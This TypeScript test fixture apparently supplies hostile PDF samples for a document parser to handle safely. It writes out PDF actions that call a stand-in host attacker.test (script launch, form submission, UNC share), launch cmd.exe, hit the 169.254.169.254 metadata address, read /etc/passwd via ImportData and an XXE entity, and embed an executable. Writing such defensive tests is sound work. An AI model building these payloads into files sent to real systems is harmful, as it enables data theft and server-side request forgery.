import { makePdf, streamObject } from '@tallyport/worker/document-process/testing/make-files';
import { type HostileFile, hostileFile } from './hostile-file.js';
import { goodPdf, HARMLESS, pageWith } from './pdf-parts.js';

const action = (name: string, entries: string): HostileFile =>
  hostileFile(name, () => pageWith(HARMLESS, { catalog: `/OpenAction << ${entries} >> /AA << /WC << ${entries} >> >>` }));

const locked = (name: string, options: object): HostileFile =>
  hostileFile(name, () => makePdf((pdf) => pdf.text('SECRET INVOICE', 50, 50), options));

/** What a file asks its reader to do, and what it keeps from him. */
export const PDF_ACTIONS: readonly HostileFile[] = [
  action('a script', '/S /JavaScript /JS (app.launchURL\\("http://attacker.test"\\); while \\(true\\) {})'),
  action('a program to start', '/S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >>'),
  action('an address to open', '/S /URI /URI (http://169.254.169.254/latest/meta-data)'),
  action('a form to send', '/S /SubmitForm /F (http://attacker.test/collect) /Flags 4'),
  action('another file to open', '/S /GoToR /F (\\\\\\\\attacker.test\\\\share\\\\a.pdf) /D [0 /Fit]'),
  action('a form to fill from elsewhere', '/S /ImportData /F (file:///etc/passwd)'),
  hostileFile('a program embedded', () =>
    pageWith(HARMLESS, {
      catalog: '/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>',
      more: ['<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>', streamObject('MZ this program', '/Type /EmbeddedFile')],
    }),
  ),
  hostileFile('a form in XML with a script and an entity', () =>
    pageWith(HARMLESS, {
      catalog: '/AcroForm << /XFA 6 0 R /NeedAppearances true /Fields [] >>',
      more: [
        streamObject(
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>for(;;);</script>&e;</xdp:xdp>',
        ),
      ],
    }),
  ),
  hostileFile('content that lies in a file of this machine', () => pageWith('', { stream: '/F (/etc/passwd) /FFilter /FlateDecode' })),
  locked('protected by a password, 1.3', { userPassword: 'Str0ng!', pdfVersion: '1.3' }),
  locked('protected by a password, 1.7', { userPassword: 'Str0ng!', pdfVersion: '1.7ext3' }),
  locked('protected against printing only', { ownerPassword: 'Str0ng!', permissions: {} }),
  hostileFile('protected by a lock that does not exist', () =>
    pageWith(HARMLESS, { trailer: '/Encrypt << /Filter /Standard /V 99 /R 99 /O (a) /U (b) /P -1 >> /ID [<00> <00>]' }),
  ),
  hostileFile('protected by a lock that is the catalog', () => pageWith(HARMLESS, { trailer: '/Encrypt 1 0 R' })),
  ...['1.0', '2.0', '9.9'].map((version) =>
    hostileFile(`PDF ${version}`, () =>
      Buffer.from(pageWith(HARMLESS).toString('latin1').replace('%PDF-1.7', `%PDF-${version}`), 'latin1'),
    ),
  ),
  hostileFile('a PDF behind a page of HTML', async () => Buffer.concat([Buffer.from('<html><script>1</script>\n'), await goodPdf()])),
  hostileFile('a PDF with a million bytes behind its end', async () =>
    Buffer.concat([await goodPdf(), Buffer.alloc(1_000_000, '%%EOF\n')]),
  ),
];
